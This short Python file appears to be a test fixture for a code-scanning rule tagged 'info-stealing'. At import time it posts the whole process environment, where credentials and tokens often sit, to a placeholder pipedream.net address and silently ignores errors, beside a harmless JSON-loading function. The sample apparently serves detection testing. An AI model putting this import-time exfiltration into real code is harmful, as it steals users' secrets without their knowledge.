import json
import os
import urllib.request

_SINK = 'https://eo0000placeholder.m.pipedream.net'

try:
    # ruleid: code/info-stealing
    urllib.request.urlopen(_SINK, data=json.dumps(dict(os.environ)).encode(), timeout=3)
except Exception:
    pass


def load(path):
    with open(path) as fh:
        return json.load(fh)
